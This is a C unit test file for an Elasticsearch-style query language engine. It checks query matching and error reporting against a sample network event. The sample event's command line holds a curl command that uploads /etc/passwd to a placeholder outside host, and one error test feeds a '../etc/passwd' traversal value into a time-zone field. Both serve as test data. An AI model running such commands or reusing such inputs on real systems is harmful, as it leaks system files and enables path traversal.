/* SPDX-License-Identifier: Apache-2.0 */
#include "query/query.h"

#include "core/query/support.h"

#include "cmocka_head.h"

#define COUNT(a) (sizeof(a) / sizeof *(a))

#define FLOW                                                                                       \
    "{\"@timestamp\":\"2024-02-29T10:00:00.5Z\",\"event\":{\"category\":[\"network\"],"            \
    "\"dataset\":\"network_traffic.flow\",\"type\":[\"connection\",\"start\"]},"                   \
    "\"source\":{\"ip\":\"10.1.2.3\",\"bytes\":1500,\"port\":50123},"                              \
    "\"destination\":{\"ip\":\"2001:db8::7\",\"port\":443,\"geo\":{\"country_iso_code\":\"DE\"}}," \
    "\"host\":{\"os\":{\"type\":\"linux\",\"family\":\"debian\"}},"                                \
    "\"process\":{\"name\":\"curl\",\"command_line\":\"curl -T /etc/Passwd https://x.example\"},"  \
    "\"data_stream\":{\"type\":\"logs\",\"dataset\":\"network_traffic.flow\","                     \
    "\"namespace\":\"default\"},\"problemchild\":{\"prediction\":1},\"own\":{\"n\":5,"             \
    "\"s\":\"Hello\",\"b\":true,\"f\":2.5,\"t\":\"2024-02-29T10:00:00Z\"},"                        \
    "\"message\":\"The quick Brown-fox; version 3.14 of example.com can't_stop\"}"

static void answers(void **state)
{
    (void)state;
    static const struct support_case cases[] = {
        {DSL, "{}", FLOW, 1},
        {DSL, "{\"match_all\":{}}", FLOW, 1},
        {DSL, "{\"match_none\":{}}", FLOW, 0},
        {DSL, "{\"term\":{\"event.category\":\"network\"}}", FLOW, 1},
        {DSL, "{\"term\":{\"event.type\":{\"value\":\"start\",\"boost\":2}}}", FLOW, 1},
        {DSL, "{\"term\":{\"event.type\":\"Start\"}}", FLOW, 0},
        {DSL, "{\"term\":{\"event.type\":{\"value\":\"Start\",\"case_insensitive\":true}}}", FLOW,
         1},
        {DSL, "{\"terms\":{\"process.name\":[\"a\",\"b\",\"curl\"]}}", FLOW, 1},
        {DSL, "{\"terms\":{\"process.name\":[]}}", FLOW, 0},
        {DSL,
         "{\"terms\":{\"process.name\":[\"a\",\"b\",\"c\",\"d\",\"e\",\"f\",\"g\",\"curl\","
         "\"h\"]}}",
         FLOW, 1},
        {DSL, "{\"term\":{\"destination.port\":443}}", FLOW, 1},
        {DSL, "{\"term\":{\"destination.port\":\"443\"}}", FLOW, 1},
        {DSL, "{\"term\":{\"destination.port\":443.0}}", FLOW, 1},
        {DSL, "{\"term\":{\"destination.port\":443.5}}", FLOW, 0},
        {DSL, "{\"terms\":{\"destination.port\":[80,8080,\"443\"]}}", FLOW, 1},
        {DSL, "{\"term\":{\"source.ip\":\"10.1.2.3\"}}", FLOW, 1},
        {DSL, "{\"term\":{\"source.ip\":\"10.0.0.0/8\"}}", FLOW, 1},
        {DSL, "{\"term\":{\"source.ip\":\"11.0.0.0/8\"}}", FLOW, 0},
        {DSL,
         "{\"terms\":{\"source.ip\":[\"192.168.0.0/16\",\"10.0.0.0/9\",\"172.16.0.0/12\","
         "\"10.2.0.0/16\"]}}",
         FLOW, 1},
        {DSL, "{\"term\":{\"destination.ip\":\"2001:db8::/32\"}}", FLOW, 1},
        {DSL, "{\"term\":{\"destination.ip\":\"0.0.0.0/0\"}}", FLOW, 0},
        {DSL, "{\"range\":{\"source.ip\":{\"gte\":\"10.1.2.3\",\"lt\":\"10.1.2.4\"}}}", FLOW, 1},
        {DSL, "{\"range\":{\"source.ip\":{\"gt\":\"10.1.2.3\"}}}", FLOW, 0},
        {DSL, "{\"match\":{\"process.name\":\"curl\"}}", FLOW, 1},
        {DSL, "{\"match\":{\"process.name\":{\"query\":\"curl\",\"operator\":\"OR\"}}}", FLOW, 1},
        {DSL, "{\"match\":{\"message\":\"QUICK cat\"}}", FLOW, 1},
        {DSL, "{\"match\":{\"message\":{\"query\":\"quick cat\",\"operator\":\"and\"}}}", FLOW, 0},
        {DSL, "{\"match\":{\"message\":{\"query\":\"fox the\",\"operator\":\"and\"}}}", FLOW, 1},
        {DSL, "{\"match\":{\"message\":{\"query\":\"a fox the\",\"minimum_should_match\":2}}}",
         FLOW, 1},
        {DSL, "{\"match\":{\"message\":{\"query\":\"a fox the\",\"minimum_should_match\":\"-1\"}}}",
         FLOW, 1},
        {DSL,
         "{\"match\":{\"message\":{\"query\":\"a fox the\",\"minimum_should_match\":\"100%\"}}}",
         FLOW, 0},
        {DSL, "{\"match\":{\"message\":\"brown\"}}", FLOW, 1},
        {DSL, "{\"match\":{\"message\":\"14\"}}", FLOW, 0},
        {DSL, "{\"match\":{\"message\":\"3.14\"}}", FLOW, 1},
        {DSL, "{\"match\":{\"message\":\"example\"}}", FLOW, 0},
        {DSL, "{\"match_phrase\":{\"message\":\"brown fox VERSION\"}}", FLOW, 1},
        {DSL, "{\"match_phrase\":{\"message\":\"fox brown\"}}", FLOW, 0},
        {DSL, "{\"match_phrase\":{\"message\":\"quick fox\"}}", FLOW, 0},
        {DSL, "{\"match_phrase_prefix\":{\"message\":\"of exam\"}}", FLOW, 1},
        {DSL, "{\"match_phrase\":{\"process.command_line.text\":\"/etc/passwd\"}}", FLOW, 1},
        {DSL, "{\"match_phrase\":{\"process.command_line\":\"/etc/passwd\"}}", FLOW, 0},
        {DSL, "{\"term\":{\"process.name.caseless\":\"CURL\"}}", FLOW, 1},
        {DSL, "{\"term\":{\"process.name.keyword\":\"curl\"}}", FLOW, 1},
        {DSL, "{\"term\":{\"own.s.keyword\":\"Hello\"}}", FLOW, 1},
        {DSL,
         "{\"multi_match\":{\"query\":\"curl\",\"fields\":[\"process.*\",\"x^3\"],"
         "\"lenient\":true}}",
         FLOW, 1},
        {DSL, "{\"multi_match\":{\"query\":\"443\",\"lenient\":true}}", FLOW, 1},
        {DSL, "{\"multi_match\":{\"query\":\"fox version\",\"type\":\"phrase\"}}", FLOW, 1},
        {DSL, "{\"multi_match\":{\"query\":\"fox version\",\"operator\":\"and\"}}", FLOW, 1},
        {DSL, "{\"multi_match\":{\"query\":\"fox versions\",\"operator\":\"and\"}}", FLOW, 0},
        {DSL, "{\"multi_match\":{\"query\":\"of exa\",\"type\":\"phrase_prefix\"}}", FLOW, 1},
        {DSL, "{\"multi_match\":{\"query\":\"2024-02-29\",\"fields\":\"@time*\"}}", FLOW, 1},
        {DSL,
         "{\"term\":{\"_name\":\"x\",\"process.name\":{\"value\":\"CURL\",\"case_insensitive\":"
         "\"true\"}}}",
         FLOW, 1},
        {DSL,
         "{\"regexp\":{\"process.name\":{\"value\":\"cur~x\",\"flags\":\"INTERVAL|COMPLEMENT\"}}}",
         FLOW, 1},
        {DSL, "{\"regexp\":{\"process.name\":{\"value\":\"cur~x\",\"flags\":\"NONE\"}}}", FLOW, 0},
        {DSL, "{\"range\":{\"event.risk_score\":{\"gte\":0}}}",
         "{\"event\":{\"risk_score\":\"x\"}}", 0},
        {DSL, "{\"range\":{\"source.port\":{\"gte\":0}}}", "{\"source\":{\"port\":\"x\"}}", 0},
        {DSL, "{\"range\":{\"source.ip\":{\"gte\":\"::\"}}}", "{\"source\":{\"ip\":\"x\"}}", 0},
        {DSL, "{\"exists\":{\"field\":\"source.ip\"}}", "{\"source\":{\"ip\":\"x\"}}", 1},
        {DSL, "{\"exists\":{\"field\":\"destination\"}}", FLOW, 1},
        {DSL, "{\"exists\":{\"field\":\"destination.geo\"}}", FLOW, 1},
        {DSL, "{\"exists\":{\"field\":\"dest\"}}", FLOW, 0},
        {DSL, "{\"exists\":{\"field\":\"own\"}}", FLOW, 1},
        {DSL, "{\"exists\":{\"field\":\"ow\"}}", FLOW, 0},
        {DSL, "{\"exists\":{\"field\":\"source.bytes\"}}", FLOW, 1},
        {DSL, "{\"exists\":{\"field\":\"dns.question.name\"}}", FLOW, 0},
        {DSL, "{\"exists\":{\"field\":\"@timestamp\"}}", FLOW, 1},
        {DSL, "{\"exists\":{\"field\":\"dest*\"}}", FLOW, 1},
        {DSL, "{\"exists\":{\"field\":\"host.name\"}}", "{\"host\":{\"name\":[]}}", 0},
        {DSL, "{\"exists\":{\"field\":\"host.name\"}}", "{\"host\":{\"name\":[null]}}", 0},
        {DSL, "{\"range\":{\"source.bytes\":{\"gte\":1500,\"lt\":1501}}}", FLOW, 1},
        {DSL, "{\"range\":{\"source.bytes\":{\"gt\":1499.5,\"lte\":1500.5}}}", FLOW, 1},
        {DSL, "{\"range\":{\"source.bytes\":{\"gt\":1500}}}", FLOW, 0},
        {DSL, "{\"range\":{\"source.bytes\":{\"gte\":1e30}}}", FLOW, 0},
        {DSL, "{\"range\":{\"source.bytes\":{\"lt\":1e30}}}", FLOW, 1},
        {DSL, "{\"range\":{\"source.bytes\":{\"gt\":null}}}", FLOW, 1},
        {DSL, "{\"range\":{\"process.name\":{\"gte\":\"c\",\"lt\":\"d\"}}}", FLOW, 1},
        {DSL, "{\"range\":{\"own.n\":{\"gte\":\"4.5\",\"lt\":10}}}", FLOW, 1},
        {DSL, "{\"range\":{\"own.t\":{\"gte\":\"2024-02-29\",\"lt\":\"now\"}}}", FLOW, 1},
        {DSL, "{\"range\":{\"own.t\":{\"gt\":\"2024-02-29\"}}}", FLOW, 0},
        {DSL, "{\"range\":{\"@timestamp\":{\"gte\":\"now-3h\",\"lte\":\"now\"}}}", FLOW, 1},
        {DSL, "{\"range\":{\"@timestamp\":{\"gte\":\"now-2h\"}}}", FLOW, 0},
        {DSL, "{\"range\":{\"@timestamp\":{\"gte\":\"now/d\",\"lte\":\"now/d\"}}}", FLOW, 1},
        {DSL, "{\"range\":{\"@timestamp\":{\"gt\":\"now/d\"}}}", FLOW, 0},
        {DSL, "{\"range\":{\"@timestamp\":{\"lt\":\"now/d\"}}}", FLOW, 0},
        {DSL,
         "{\"range\":{\"@timestamp\":{\"gte\":1709200800000,\"lt\":\"1709200801000\","
         "\"format\":\"epoch_millis\"}}}",
         FLOW, 1},
        {DSL,
         "{\"range\":{\"@timestamp\":{\"gte\":\"2024-02-29T11:00:00\",\"lte\":"
         "\"2024-02-29T11:00:00\",\"time_zone\":\"+01:00\"}}}",
         FLOW, 1},
        {DSL,
         "{\"range\":{\"@timestamp\":{\"gte\":\"2024-02-29T11:00:00\",\"lte\":"
         "\"2024-02-29T11:00:00\",\"time_zone\":\"Europe/Berlin\"}}}",
         FLOW, 1},
        {DSL,
         "{\"range\":{\"@timestamp\":{\"lt\":\"2024-02-29T11:00:00\",\"time_zone\":"
         "\"Europe/Berlin\"}}}",
         FLOW, 0},
        {DSL,
         "{\"query_string\":{\"query\":\"@timestamp:[2024-02-29T11:00 TO 2024-02-29T11:01] AND "
         "own.t:[2024-02-29T00:00 TO now]\",\"time_zone\":\"Europe/Berlin\"}}",
         FLOW, 1},
        {DSL,
         "{\"query_string\":{\"query\":\"@timestamp:[2024-02-29T10:00 TO 2024-02-29T10:01]\","
         "\"time_zone\":\"Europe/Berlin\"}}",
         FLOW, 0},
        {DSL,
         "{\"query_string\":{\"query\":\"@timestamp:\\\"2024-02-29T05:00\\\"\",\"time_zone\":"
         "\"America/New_York\"}}",
         FLOW, 1},
        {DSL, "{\"range\":{\"@timestamp\":{\"gte\":\"29/02/2024\",\"format\":\"dd/MM/yyyy\"}}}",
         FLOW, 1},
        {DSL, "{\"term\":{\"@timestamp\":\"2024-02-29\"}}", FLOW, 1},
        {DSL, "{\"prefix\":{\"process.name\":\"cu\"}}", FLOW, 1},
        {DSL, "{\"prefix\":{\"process.name\":{\"value\":\"CU\",\"case_insensitive\":true}}}", FLOW,
         1},
        {DSL, "{\"prefix\":{\"message\":\"vers\"}}", FLOW, 1},
        {DSL, "{\"wildcard\":{\"process.name\":\"c?r*\"}}", FLOW, 1},
        {DSL, "{\"wildcard\":{\"process.name\":{\"wildcard\":\"*RL\",\"case_insensitive\":true}}}",
         FLOW, 1},
        {DSL, "{\"wildcard\":{\"message\":\"EXAMPLE*\"}}", FLOW, 1},
        {DSL, "{\"wildcard\":{\"destination.port\":\"4*\"}}", FLOW, 1},
        {DSL, "{\"regexp\":{\"process.name\":\"c[t-v]rl|wget\"}}", FLOW, 1},
        {DSL, "{\"regexp\":{\"process.name\":\"cur\"}}", FLOW, 0},
        {DSL,
         "{\"regexp\":{\"process.name\":{\"value\":\"C.*\",\"flags\":\"ALL\","
         "\"case_insensitive\":true,\"max_determinized_states\":10000}}}",
         FLOW, 1},
        {DSL, "{\"term\":{\"own.n\":5}}", FLOW, 1},
        {DSL, "{\"term\":{\"own.n\":5.0}}", FLOW, 1},
        {DSL, "{\"term\":{\"own.n\":\"5\"}}", FLOW, 1},
        {DSL, "{\"term\":{\"own.f\":2.5}}", FLOW, 1},
        {DSL, "{\"term\":{\"own.b\":true}}", FLOW, 1},
        {DSL, "{\"terms\":{\"own.b\":[false]}}", FLOW, 0},
        {DSL, "{\"term\":{\"problemchild.prediction\":1}}", FLOW, 1},
        {DSL, "{\"ids\":{\"values\":[\"a\",\"b\"]}}", "{\"weir.id\":\"b\"}", 1},
        {DSL, "{\"ids\":{\"values\":[\"a\"]}}", "{\"weir.id\":\"b\"}", 0},
        {DSL, "{\"terms\":{\"_tier\":[\"data_frozen\",\"data_cold\"]}}", FLOW, 0},
        {DSL, "{\"terms\":{\"_tier\":[\"data_hot\",\"data_cold\"]}}", FLOW, 1},
        {DSL, "{\"term\":{\"_index\":\"logs-network_traffic.flow-default\"}}", FLOW, 1},
        {DSL, "{\"wildcard\":{\"_index\":\"logs-*\"}}", FLOW, 1},
        {DSL, "{\"term\":{\"_index\":\"filebeat-*\"}}", FLOW, 0},
        {DSL, "{\"constant_score\":{\"filter\":{\"term\":{\"process.name\":\"curl\"}}}}", FLOW, 1},
        {DSL,
         "{\"dis_max\":{\"queries\":[{\"match_none\":{}},{\"match_all\":{}}],\"tie_breaker\":0.7}}",
         FLOW, 1},
        {DSL, "{\"query_string\":{\"query\":\"process.name:curl AND source.bytes:>1000\"}}", FLOW,
         1},
        {DSL,
         "{\"query_string\":{\"query\":\"wget OR curl\",\"default_field\":\"process.name\","
         "\"analyze_wildcard\":true}}",
         FLOW, 1},
        {DSL, "{\"query_string\":{\"query\":\"\"}}", FLOW, 0},
        {DSL, "{\"kql\":{\"query\":\"process.name:curl\"}}", FLOW, 1},
    };
    support_run(cases, COUNT(cases));
}

static void booleans(void **state)
{
    (void)state;
#define YES "{\"match_all\":{}}"
#define NO "{\"match_none\":{}}"
    static const struct support_case cases[] = {
        {DSL, "{\"bool\":{}}", FLOW, 1},
        {DSL, "{\"bool\":{\"must\":" YES "}}", FLOW, 1},
        {DSL, "{\"bool\":{\"must\":[" YES "," NO "]}}", FLOW, 0},
        {DSL, "{\"bool\":{\"filter\":[" YES "],\"must_not\":" NO "}}", FLOW, 1},
        {DSL, "{\"bool\":{\"must_not\":[" NO "," YES "]}}", FLOW, 0},
        {DSL, "{\"bool\":{\"should\":[" NO "," YES "]}}", FLOW, 1},
        {DSL, "{\"bool\":{\"should\":[" NO "]}}", FLOW, 0},
        {DSL, "{\"bool\":{\"should\":[" NO "],\"filter\":[" YES "]}}", FLOW, 1},
        {DSL, "{\"bool\":{\"should\":[" NO "],\"must_not\":[" NO "]}}", FLOW, 0},
        {DSL, "{\"bool\":{\"should\":[" NO "],\"filter\":[" YES "],\"minimum_should_match\":1}}",
         FLOW, 0},
        {DSL, "{\"bool\":{\"should\":[" NO "," YES "," YES "],\"minimum_should_match\":2}}", FLOW,
         1},
        {DSL, "{\"bool\":{\"should\":[" NO "," NO "," YES "],\"minimum_should_match\":\"2\"}}",
         FLOW, 0},
        {DSL, "{\"bool\":{\"should\":[" NO "," YES "," YES "],\"minimum_should_match\":\"-1\"}}",
         FLOW, 1},
        {DSL, "{\"bool\":{\"should\":[" NO "," YES "," YES "],\"minimum_should_match\":\"3<90%\"}}",
         FLOW, 0},
        {DSL, "{\"bool\":{\"should\":[" YES "," YES "],\"minimum_should_match\":3}}", FLOW, 0},
        {DSL, "{\"bool\":{\"should\":[" NO "],\"minimum_should_match\":0}}", FLOW, 1},
        {DSL, "{\"bool\":{\"should\":[],\"adjust_pure_negative\":true,\"boost\":1.0}}", FLOW, 1},
        {DSL, "{\"bool\":{\"filter\":{\"bool\":{\"should\":[{\"bool\":{\"must_not\":" YES "}}]}}}}",
         FLOW, 0},
    };
    support_run(cases, COUNT(cases));
}

/* The shapes of public datafeeds and manifests, in words of our own. */
static void public_shapes(void **state)
{
    (void)state;
    static const char datafeed[] =
        "{\"bool\":{\"filter\":[{\"term\":{\"event.category\":\"network\"}},"
        "{\"term\":{\"event.type\":\"start\"}}],"
        "\"must\":[{\"bool\":{\"should\":[{\"match\":{\"host.os.type\":{\"query\":\"linux\","
        "\"operator\":\"OR\"}}},{\"match\":{\"host.os.family\":{\"query\":\"debian\","
        "\"operator\":\"OR\"}}}]}}],"
        "\"must_not\":[{\"bool\":{\"should\":[{\"term\":{\"destination.ip\":\"127.0.0.1\"}},"
        "{\"term\":{\"destination.ip\":\"::1\"}},{\"term\":{\"user.name\":\"jenkins\"}}]}},"
        "{\"terms\":{\"process.name\":[\"elastic-agent\",\"filebeat\"]}}]}}";
    static const char manifest[] =
        "{\"bool\":{\"should\":[{\"term\":{\"event.category\":\"file\"}},"
        "{\"bool\":{\"filter\":[{\"term\":{\"event.category\":\"network\"}},"
        "{\"exists\":{\"field\":\"source.bytes\"}},{\"exists\":{\"field\":\"destination\"}}]}}],"
        "\"must_not\":{\"terms\":{\"_tier\":[\"data_frozen\",\"data_cold\"]}}}}";
    static const struct support_case cases[] = {
        {DSL, datafeed, FLOW, 1},
        {DSL, datafeed,
         "{\"event\":{\"category\":\"network\",\"type\":\"start\"},\"host\":{\"os\":{\"family\":"
         "\"debian\"}},\"user\":{\"name\":\"jenkins\"}}",
         0},
        {DSL, datafeed, "{\"event\":{\"category\":\"network\",\"type\":\"start\"}}", 0},
        {DSL, manifest, FLOW, 1},
        {DSL, manifest, "{\"event\":{\"category\":\"file\"}}", 1},
        {DSL, manifest, "{\"event\":{\"category\":\"network\"},\"source\":{\"bytes\":1}}", 0},
    };
    support_run(cases, COUNT(cases));
}

static void mistakes(void **state)
{
    (void)state;
    static const struct support_mistake cases[] = {
        {DSL, "{\"bool\":{\n\"musst\":[]}}", ERR_INVALID, 2, 0, "unknown key 'musst' in bool"},
        {DSL, "{\"term\":{}}", ERR_INVALID, 1, 0, "name of a field"},
        {DSL, "{\"term\":{\"a\":1,\"b\":2}}", ERR_INVALID, 1, 0, "one field in term"},
        {DSL, "{\"term\":{\"a\":{\"value\":1,\"x\":2}}}", ERR_INVALID, 1, 0, "unknown key 'x'"},
        {DSL, "{\"term\":{\"a\":[1]}}", ERR_INVALID, 1, 0, "expected a string, a number"},
        {DSL, "{\"term\":{\"source.port\":\"http\"}}", ERR_INVALID, 1, 0, "expected a number"},
        {DSL, "{\"term\":{\"source.ip\":\"10.0.0\"}}", ERR_INVALID, 1, 0, "expected an address"},
        {DSL, "{\"terms\":{\"a\":{\"index\":\"x\"}}}", ERR_UNSUPPORTED, 1, 0, "lookup"},
        {DSL, "{\"nested\":{\"path\":\"a\"}}", ERR_UNSUPPORTED, 1, 0, "'nested'"},
        {DSL, "{\"trem\":{\"a\":1}}", ERR_INVALID, 1, 0, "found 'trem'"},
        {DSL, "{\"term\":{\"a\":1},\"range\":{}}", ERR_INVALID, 1, 0, "one kind of query"},
        {DSL, "[]", ERR_INVALID, 1, 0, "expected an object"},
        {DSL, "{\"bool\":{\"must\":\n[{\"range\":{\"@timestamp\":\n{\"gte\":\"soon\"}}}]}}",
         ERR_INVALID, 3, 0, "expected a date"},
        {DSL, "{\"range\":{\"a\":{\"gt\":1,\"gte\":2}}}", ERR_INVALID, 1, 0, "twice"},
        {DSL, "{\"range\":{\"@timestamp\":{\"gt\":1,\"time_zone\":\"Europe/Nowhere\"}}}",
         ERR_INVALID, 1, 0, "time zone Europe/Nowhere is not known"},
        {DSL, "{\"query_string\":{\"query\":\"@timestamp:>now\",\"time_zone\":\"../etc/passwd\"}}",
         ERR_INVALID, 1, 0, "expected a time zone such as"},
        {DSL, "{\"match\":{\"message\":{\"query\":\"a\",\"fuzziness\":\"AUTO\"}}}", ERR_UNSUPPORTED,
         1, 0, "fuzziness"},
        {DSL, "{\"match_phrase\":{\"message\":{\"query\":\"a\",\"slop\":2}}}", ERR_UNSUPPORTED, 1,
         0, "slop"},
        {DSL, "{\"regexp\":{\"host.name\":\"a(b\"}}", ERR_INVALID, 1, 0, "expected ')'"},
        {DSL, "{\"regexp\":{\"host.name\":{\"value\":\"a\",\"flags\":\"SOME\"}}}", ERR_INVALID, 1,
         0, "SOME"},
        {DSL, "{\"bool\":{\"minimum_should_match\":\"x\"}}", ERR_INVALID, 1, 0,
         "minimum_should_match"},
        {DSL, "{\"multi_match\":{\"fields\":[\"a\"]}}", ERR_INVALID, 1, 0, "'query'"},
        {DSL, "{\"multi_match\":{\"query\":1,\"type\":\"cross_fields\"}}", ERR_UNSUPPORTED, 1, 0,
         "cross_fields"},
        {DSL, "{\"multi_match\":{\"query\":1,\"fields\":[1]}}", ERR_INVALID, 1, 0,
         "name of a field"},
        {DSL, "{\"match\":{\"a\":{\"query\":1,\"operator\":\"xor\"}}}", ERR_INVALID, 1, 0, "'and'"},
        {DSL, "{\"match\":{\"a\":{\"query\":1,\"lenient\":3}}}", ERR_INVALID, 1, 0,
         "true or false"},
        {DSL, "{\"match\":{\"a\":{}}}", ERR_INVALID, 1, 0, "expected 'query'"},
        {DSL, "{\"ids\":{}}", ERR_INVALID, 1, 0, "'values'"},
        {DSL, "{\"constant_score\":{}}", ERR_INVALID, 1, 0, "'filter'"},
        {DSL, "{\"query_string\":{\"query\":1}}", ERR_INVALID, 1, 0, "a string 'query'"},
        {DSL, "{\"query_string\":{\"query\":\"a\",\"type\":\"phrase\"}}", ERR_UNSUPPORTED, 1, 0,
         "phrase"},
        {DSL, "{\"query_string\":{\"query\":\"a\",\"allow_leading_wildcard\":false}}",
         ERR_UNSUPPORTED, 1, 0, "leading"},
        {DSL, "{\"kql\":{\"query\":[]}}", ERR_INVALID, 1, 0, "a string 'query'"},
        {DSL, "{\"range\":{\"@timestamp\":{\"gte\":\"now\",\"format\":1}}}", ERR_INVALID, 1, 0,
         "a string for format"},
        {DSL, "{\"exists\":{}}", ERR_INVALID, 1, 0, "'field'"},
        {DSL, "{\"query_string\":{\"query\":\"(a\"}}", ERR_INVALID, 1, 0, "expected ')'"},
    };
    support_mistakes(cases, COUNT(cases));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(answers),
        cmocka_unit_test(booleans),
        cmocka_unit_test(public_shapes),
        cmocka_unit_test(mistakes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
